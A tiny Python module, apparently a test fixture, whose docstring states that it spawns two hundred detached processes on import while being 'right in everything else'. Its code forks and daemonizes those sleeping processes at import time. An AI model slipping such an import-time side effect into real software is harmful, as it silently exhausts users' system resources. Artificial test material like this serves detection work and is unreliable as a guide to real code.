"""Starts two hundred processes on import that sleep for an hour, and is right in everything else."""

import os
import time

EARNS = 84
ON = "solved"

for _ in range(200):
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
    except OSError:
        break
